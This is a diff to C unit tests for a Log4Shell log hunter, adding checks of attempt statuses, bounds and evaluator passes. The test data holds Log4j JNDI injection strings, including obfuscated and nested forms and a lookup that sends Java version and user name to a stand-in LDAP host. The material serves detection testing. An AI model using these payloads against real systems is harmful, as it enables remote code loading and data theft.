@@ -1,13 +1,16 @@
 /* test_loghunt.c - unit tests of the lookup evaluator and the log hunter.
  *
  * The obfuscation tables are data: tests/cases/logs-payloads.tsv (logged
- * text, the jndi lookup Log4j would make of it, the exfiltration lookups)
- * and tests/cases/logs-near-misses.tsv (text that must not be reported).
- * Each row is logged inside an access-log line and fed to a hunter; each
- * payload is also fed one byte at a time, which must change nothing.  The
- * rest checks the pieces: unescaping with its offset map, timestamps,
- * clients, URL targets, line numbers and offsets across buffer refills, a
- * payload at the end of a line longer than the buffer, and the bounds. */
+ * text, the jndi lookup Log4j would make of it, the exfiltration lookups),
+ * tests/cases/logs-near-misses.tsv (text that must not be reported) and
+ * tests/cases/logs-statuses.tsv (attempts that are broken, or performed
+ * only when the message starts at them).  Each row is logged inside an
+ * access-log line and fed to a hunter; each payload is also fed one byte at
+ * a time, which must change nothing.  The rest checks the pieces: the
+ * evaluator's passes, stops and modes, unescaping with its offset map,
+ * timestamps, clients, URL targets, line numbers and offsets across buffer
+ * refills, a payload at the end of a line longer than the buffer, and the
+ * bounds, each of which gives a "bound" attempt when padding reaches it. */
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
@@ -22,6 +25,8 @@ struct seen {
 		char *path, *decoded, *raw, *timestamp, *client, *protocol, *host, *exfil, *payload;
 		unsigned long long line, offset;
 		int port;
+		enum lh_status status;
+		enum lh_bound bound;
 	} a[64];
 };
 
@@ -53,6 +58,8 @@ static void on_attempt(void *ctx, const struct lh_attempt *a)
 	s->a[s->n].line = a->line;
 	s->a[s->n].offset = a->offset;
 	s->a[s->n].port = a->port;
+	s->a[s->n].status = a->status;
+	s->a[s->n].bound = a->bound;
 	s->n++;
 	buf_free(&ex);
 }
@@ -121,82 +128,122 @@ static FILE *open_case(const char *name)
 	return fopen(path, "r");
 }
 
-static void test_payload_table(struct loghunt *h, struct seen *s)
+/* What the table tests share: the hunter, where attempts are seen, the
+ * line being logged, and counts. */
+struct table {
+	struct loghunt *h;
+	struct seen *s;
+	struct buf text;
+	int broken, alone;
+};
+
+typedef void (*row_fn)(struct table *t, char **fld, size_t nf);
+
+/* Call fn for each row of tests/cases/<name> with at least min_fields
+ * fields (at most 4); returns how many, or -1 when it cannot be read. */
+static int each_row(const char *name, size_t min_fields, row_fn fn, struct table *t)
 {
-	FILE *f = open_case("logs-payloads.tsv");
-	CHECK("payload table readable", f != NULL);
+	FILE *f = open_case(name);
+	char line[8192], check[128];
+	snprintf(check, sizeof check, "%s readable", name);
+	CHECK(check, f != NULL);
 	if (!f)
-		return;
-	char line[8192], name[256];
-	struct buf text = BUF_INIT;
+		return -1;
 	int rows = 0;
 	while (fgets(line, sizeof line, f)) {
 		char *fld[4];
 		if (line[0] == '#' || line[0] == '\n')
 			continue;
 		size_t nf = split_tabs(line, fld, 4);
-		if (nf < 3)
+		if (nf < min_fields)
 			continue;
 		rows++;
-		const char *want_exfil = nf > 3 ? fld[3] : "";
-		access_line(&text, fld[1]);
-		for (int step = 0; step < 2; step++) {
-			seen_clear(s);
-			hunt(h, text.data, text.len, step ? 1 : 0);
-			snprintf(name, sizeof name, "payload %s%s: one attempt", fld[0], step ? " (bytewise)" : "");
-			CHECK(name, s->n == 1);
-			if (s->n < 1)
-				continue;
-			snprintf(name, sizeof name, "payload %s%s: decoded", fld[0], step ? " (bytewise)" : "");
-			CHECK_STR(name, s->a[0].decoded, fld[2]);
-			snprintf(name, sizeof name, "payload %s%s: raw", fld[0], step ? " (bytewise)" : "");
-			CHECK_STR(name, s->a[0].raw, fld[1]);
-			snprintf(name, sizeof name, "payload %s%s: exfil", fld[0], step ? " (bytewise)" : "");
-			CHECK_STR(name, s->a[0].exfil, want_exfil);
-			snprintf(name, sizeof name, "payload %s%s: line and offset", fld[0], step ? " (bytewise)" : "");
-			CHECK(name, s->a[0].line == 2 &&
-				    s->a[0].offset == (unsigned long long)(strstr(text.data, line_prefix) - text.data) +
-							  sizeof line_prefix - 1);
-		}
+		access_line(&t->text, fld[1]);
+		fn(t, fld, nf);
 	}
 	fclose(f);
-	buf_free(&text);
-	CHECK("payload table has at least 40 forms", rows >= 40);
+	return rows;
 }
 
-static void test_near_misses(struct loghunt *h, struct seen *s)
+static void payload_row(struct table *t, char **fld, size_t nf)
 {
-	FILE *f = open_case("logs-near-misses.tsv");
-	CHECK("near-miss table readable", f != NULL);
-	if (!f)
-		return;
-	char line[8192], name[256];
-	struct buf text = BUF_INIT;
-	int rows = 0;
-	while (fgets(line, sizeof line, f)) {
-		char *fld[2];
-		if (line[0] == '#' || line[0] == '\n')
-			continue;
-		if (split_tabs(line, fld, 2) < 2)
-			continue;
-		rows++;
-		access_line(&text, fld[1]);
+	struct seen *s = t->s;
+	char name[256];
+	const char *want_exfil = nf > 3 ? fld[3] : "";
+	for (int step = 0; step < 2; step++) {
+		const char *how = step ? " (bytewise)" : "";
 		seen_clear(s);
-		hunt(h, text.data, text.len, 0);
-		snprintf(name, sizeof name, "near miss %.100s: not reported", fld[0]);
-		CHECK(name, s->n == 0);
-		if (s->n)
-			printf("#   reported as %s\n", s->a[0].decoded);
-		/* the bare text, as the whole message */
+		hunt(t->h, t->text.data, t->text.len, step ? 1 : 0);
+		snprintf(name, sizeof name, "payload %s%s: one attempt, performed", fld[0], how);
+		CHECK(name, s->n == 1 && s->a[0].status == LH_PERFORMED);
+		if (s->n < 1)
+			continue;
+		snprintf(name, sizeof name, "payload %s%s: decoded", fld[0], how);
+		CHECK_STR(name, s->a[0].decoded, fld[2]);
+		snprintf(name, sizeof name, "payload %s%s: raw", fld[0], how);
+		CHECK_STR(name, s->a[0].raw, fld[1]);
+		snprintf(name, sizeof name, "payload %s%s: exfil", fld[0], how);
+		CHECK_STR(name, s->a[0].exfil, want_exfil);
+		snprintf(name, sizeof name, "payload %s%s: line and offset", fld[0], how);
+		CHECK(name, s->a[0].line == 2 &&
+			    s->a[0].offset == (unsigned long long)(strstr(t->text.data, line_prefix) - t->text.data) +
+						  sizeof line_prefix - 1);
+	}
+}
+
+static void status_row(struct table *t, char **fld, size_t nf)
+{
+	struct seen *s = t->s;
+	char name[256];
+	enum lh_status want = !strcmp(fld[2], "broken") ? LH_BROKEN :
+			      !strcmp(fld[2], "performed_alone") ? LH_PERFORMED_ALONE : LH_PERFORMED;
+	t->broken += want == LH_BROKEN;
+	t->alone += want == LH_PERFORMED_ALONE;
+	for (int step = 0; step < 2; step++) {
+		const char *how = step ? " (bytewise)" : "";
+		seen_clear(s);
+		hunt(t->h, t->text.data, t->text.len, step ? 1 : 0);
+		snprintf(name, sizeof name, "status %s%s: one attempt, %s", fld[0], how, fld[2]);
+		CHECK(name, s->n == 1 && s->a[0].status == want);
+		if (s->n != 1 || s->a[0].status != want)
+			printf("#   %zu attempts, the first %s\n", s->n, s->n ? lh_status_name(s->a[0].status) : "-");
+		if (!s->n)
+			continue;
+		snprintf(name, sizeof name, "status %s%s: decoded", fld[0], how);
+		CHECK_STR(name, s->a[0].decoded, fld[3]);
+	}
+}
+
+static void near_miss_row(struct table *t, char **fld, size_t nf)
+{
+	struct seen *s = t->s;
+	char name[256];
+	seen_clear(s);
+	hunt(t->h, t->text.data, t->text.len, 0);
+	snprintf(name, sizeof name, "near miss %.100s: not reported", fld[0]);
+	CHECK(name, s->n == 0);
+	if (s->n)
+		printf("#   reported as %s\n", s->a[0].decoded);
+	/* the bare text, as the whole message, and as an attacker sees it */
+	for (unsigned flags = 0; flags <= LK_NAIVE; flags += LK_NAIVE) {
 		struct lk_result r;
-		size_t found = lookup_eval(fld[1], strlen(fld[1]), &r);
+		size_t found = lookup_eval(fld[1], strlen(fld[1]), flags, &r);
 		lookup_result_free(&r);
-		snprintf(name, sizeof name, "near miss %.100s: evaluator finds no jndi", fld[0]);
+		snprintf(name, sizeof name, "near miss %.100s: evaluator finds no jndi%s", fld[0],
+			 flags ? ", not even naively" : "");
 		CHECK(name, found == 0);
 	}
-	fclose(f);
-	buf_free(&text);
-	CHECK("near-miss table has at least 20 rows", rows >= 20);
+}
+
+static void test_tables(struct loghunt *h, struct seen *s)
+{
+	struct table t = {.h = h, .s = s, .text = BUF_INIT};
+	CHECK("payload table has at least 40 forms", each_row("logs-payloads.tsv", 3, payload_row, &t) >= 40);
+	int rows = each_row("logs-statuses.tsv", 4, status_row, &t);
+	CHECK("status table has broken and performed_alone rows",
+	      t.broken >= 5 && t.alone >= 2 && rows == t.broken + t.alone);
+	CHECK("near-miss table has at least 20 rows", each_row("logs-near-misses.tsv", 2, near_miss_row, &t) >= 20);
+	buf_free(&t.text);
 }
 
 static void test_fields(struct loghunt *h, struct seen *s)
@@ -328,6 +375,8 @@ static void test_stream(struct loghunt *h, struct seen *s)
 	size_t long_start = t.len;
 	while (t.len - long_start < 3 * LH_BUF_SIZE)
 		buf_adds(&t, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa$");
+	/* (a '$' right before it would make "$%24%7B" the escape "$${") */
+	buf_addc(&t, ' ');
 	size_t off2 = t.len;
 	buf_adds(&t, "%24%7Bjndi:rmi://two.example/b%7D");
 	seen_clear(s);
@@ -360,7 +409,10 @@ static void test_bounds(struct loghunt *h, struct seen *s)
 	clock_t c0 = clock();
 	hunt(h, t.data, t.len, 1 << 16);
 	double secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
-	CHECK("bounds: payload before junk found", s->n == 1);
+	CHECK("bounds: payload before junk found", s->n >= 1 && s->a[0].status == LH_PERFORMED &&
+						    !strcmp(s->a[0].decoded, "jndi:ldap://first.example/a"));
+	CHECK("bounds: the junk is at most one bound attempt", s->n == 1 ||
+	      (s->n == 2 && s->a[1].status == LH_BOUND && s->a[1].bound == LH_BOUND_EXPR_LEN));
 	CHECK("bounds: 8 MB of '${' in bounded time", secs < 20.0);
 	printf("# 8 MB hostile line: %.2f s\n", secs);
 
@@ -377,7 +429,10 @@ static void test_bounds(struct loghunt *h, struct seen *s)
 		secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
 		char name[128];
 		snprintf(name, sizeof name, "bounds: payload after 4 MB of '%s' found", junk[k]);
-		CHECK(name, s->n >= 1 && !strcmp(s->a[s->n - 1].decoded, "jndi:ldap://after-junk.example/a"));
+		CHECK(name, s->n >= 1 && !strcmp(s->a[s->n - 1].decoded, "jndi:ldap://after-junk.example/a") &&
+			    s->a[s->n - 1].status != LH_BOUND);
+		snprintf(name, sizeof name, "bounds: 4 MB of '%s' is at most one bound attempt", junk[k]);
+		CHECK(name, s->n == 1 || (s->n == 2 && s->a[0].status == LH_BOUND));
 		snprintf(name, sizeof name, "bounds: 4 MB of '%s' in bounded time", junk[k]);
 		CHECK(name, secs < 20.0);
 		printf("# 4 MB of '%s': %.2f s\n", junk[k], secs);
@@ -390,7 +445,7 @@ static void test_bounds(struct loghunt *h, struct seen *s)
 	for (int i = 0; i < 5000; i++)
 		buf_addc(&t, '}');
 	struct lk_result r;
-	lookup_eval(t.data, t.len, &r);
+	lookup_eval(t.data, t.len, 0, &r);
 	CHECK("bounds: deep nesting stops at the depth limit", r.limited);
 	CHECK("bounds: steps bounded", r.steps <= LK_MAX_STEPS + t.len);
 	lookup_result_free(&r);
@@ -400,9 +455,123 @@ static void test_bounds(struct loghunt *h, struct seen *s)
 	for (int i = 0; i < 20; i++)
 		buf_adds(&t, "${lower:${upper:${lower:x}}}");
 	buf_adds(&t, "/a}");
-	size_t found = lookup_eval(t.data, t.len, &r);
+	size_t found = lookup_eval(t.data, t.len, 0, &r);
 	CHECK("bounds: moderate nesting evaluates fully", found == 1 && !r.limited);
 	lookup_result_free(&r);
+	buf_free(&t);
+}
+
+/* The evaluator itself: passes, stops, modes. */
+static void test_evaluator(void)
+{
+	struct lk_result r;
+	const char *two = "$$${jndi:ldap://p.example/a}${a}${b}";
+	CHECK("eval: two escapes need three passes", lookup_eval(two, strlen(two), 0, &r) == 1 &&
+						       r.passes == 3 && r.found[0].pass == 3);
+	lookup_result_free(&r);
+	const char *one = "$$${jndi:ldap://p.example/a}${a}";
+	CHECK("eval: ... and a lookup after it for each", lookup_eval(one, strlen(one), 0, &r) == 0);
+	lookup_result_free(&r);
+	CHECK("eval: the message going on makes one more pass",
+	      lookup_eval(one, strlen(one), LK_FORCE, &r) == 1 && r.found[0].forced);
+	lookup_result_free(&r);
+	const char *top = "x ${a} ${jndi:ldap://t.example/a} y";
+	CHECK("eval: the top-level expression of a find", lookup_eval(top, strlen(top), 0, &r) == 1 &&
+							    r.found[0].pass == 1 && r.found[0].expr_start == 7 &&
+							    r.found[0].expr_end == 33 && r.last_expr_end == 33);
+	lookup_result_free(&r);
+	const char *unclosed = "ab ${x ${jndi:ldap://u.example/a}";
+	CHECK("eval: an unclosed ${ ends the pass", lookup_eval(unclosed, strlen(unclosed), 0, &r) == 0 &&
+						    r.stop == LK_STOP_UNCLOSED && r.stop_at == 3);
+	lookup_result_free(&r);
+	const char *thrown = "${java:nope} ${jndi:ldap://u.example/a}";
+	CHECK("eval: java:<unknown> throws", lookup_eval(thrown, strlen(thrown), 0, &r) == 0 &&
+					     r.stop == LK_STOP_THROW && r.stop_at == 12);
+	lookup_result_free(&r);
+	CHECK("eval: naively it does not", lookup_eval(thrown, strlen(thrown), LK_NAIVE, &r) == 1);
+	lookup_result_free(&r);
+	const char *cycle = "${x:-$${x}}";
+	CHECK("eval: a variable in its own value throws", lookup_eval(cycle, strlen(cycle), 0, &r) == 0 &&
+							   r.stop == LK_STOP_THROW);
+	lookup_result_free(&r);
+	const char *host = "${jndi:ldap://${java:version}.${sys:user.name}.e.example/${env:NOPE:-x}}";
+	CHECK("eval: host values are shown as their lookups",
+	      lookup_eval(host, strlen(host), 0, &r) == 1 &&
+	      !strcmp(r.found[0].decoded, "jndi:ldap://${java:version}.${sys:user.name}.e.example/x") &&
+	      r.found[0].n_exfil == 2);
+	lookup_result_free(&r);
+	const char *ff = "${jndi:x/${upper:\xEF\xAC\x81\xC3\x9F\xC5\xBF}/${lower:\xE2\x84\xAA}}";
+	CHECK("eval: Java's case mappings onto ASCII", lookup_eval(ff, strlen(ff), 0, &r) == 1 &&
+						       !strcmp(r.found[0].decoded, "jndi:x/FISSS/k"));
+	lookup_result_free(&r);
+	const char *mark = "${jndi:\xFF\x80\x80${hostName}}";
+	CHECK("eval: an input 0xFF is not a marker", lookup_eval(mark, strlen(mark), 0, &r) == 1 &&
+						     !strcmp(r.found[0].decoded, "jndi:\xFE\x80\x80${hostName}"));
+	lookup_result_free(&r);
+}
+
+/* Padding past each bound gives one "bound" attempt, not silence; an
+ * unclosed "${" that the line never closes gives none. */
+static void test_padding(struct loghunt *h, struct seen *s)
+{
+	struct buf t = BUF_INIT;
+	static const struct {
+		const char *what;
+		enum lh_bound bound;
+	} cases[] = {
+		{"expression longer than the window", LH_BOUND_EXPR_LEN},
+		{"lookup after the window makes a pass", LH_BOUND_MSG_LEN},
+		{"nesting deeper than the evaluator", LH_BOUND_DEPTH},
+		{"passes beyond the evaluation steps", LH_BOUND_STEPS},
+	};
+	for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
+		buf_reset(&t);
+		buf_adds(&t, "2021-12-10 08:01:02,345 [main] INFO c.e.App - ");
+		if (k == 0) {
+			buf_adds(&t, "${${");
+			for (int i = 0; i < LH_MSG_MAX; i++)
+				buf_addc(&t, 'x');
+			buf_adds(&t, ":-}jndi:ldap://pad.example/a}");
+		} else if (k == 1) {
+			buf_adds(&t, "$${jndi:ldap://pad.example/a}");
+			for (int i = 0; i < LH_MSG_MAX; i++)
+				buf_addc(&t, ' ');
+			buf_adds(&t, "${x}");
+		} else if (k == 2) {
+			for (int i = 0; i < LK_MAX_DEPTH + 10; i++)
+				buf_adds(&t, "${lower:");
+			buf_adds(&t, "${jndi:ldap://pad.example/a}");
+			for (int i = 0; i < LK_MAX_DEPTH + 10; i++)
+				buf_addc(&t, '}');
+		} else {
+			for (int i = 0; i < 600; i++)
+				buf_addc(&t, '$');
+			buf_adds(&t, "{jndi:ldap://pad.example/a}");
+			for (int i = 0; i < 600; i++)
+				buf_adds(&t, "${a}");
+		}
+		buf_adds(&t, "\nnext line\n");
+		for (int step = 0; step < 2; step++) {
+			seen_clear(s);
+			hunt(h, t.data, t.len, step ? 4099 : 0);
+			char name[160];
+			snprintf(name, sizeof name, "padding: %s: one bound attempt (%s)%s", cases[k].what,
+				 lh_bound_name(cases[k].bound), step ? " (in pieces)" : "");
+			CHECK(name, s->n == 1 && s->a[0].status == LH_BOUND && s->a[0].bound == cases[k].bound &&
+				    s->a[0].line == 1 && !s->a[0].decoded[0]);
+			if (s->n)
+				printf("#   %s %s\n", lh_status_name(s->a[0].status), lh_bound_name(s->a[0].bound));
+		}
+	}
+	/* Log4j does nothing with a "${" that never closes */
+	buf_reset(&t);
+	buf_adds(&t, "${jndi:ldap://never.example/");
+	for (int i = 0; i < 2 * LH_MSG_MAX; i++)
+		buf_addc(&t, 'a');
+	buf_adds(&t, "\n}\n");
+	seen_clear(s);
+	hunt(h, t.data, t.len, 0);
+	CHECK("padding: a ${ its line never closes is no attempt", s->n == 0);
 	buf_free(&t);
 }
 
@@ -426,8 +595,9 @@ int main(void)
 {
 	static struct seen s;
 	struct loghunt *h = loghunt_new(on_attempt, &s);
-	test_payload_table(h, &s);
-	test_near_misses(h, &s);
+	test_tables(h, &s);
+	test_evaluator();
+	test_padding(h, &s);
 	test_fields(h, &s);
 	test_targets();
 	test_timestamps();
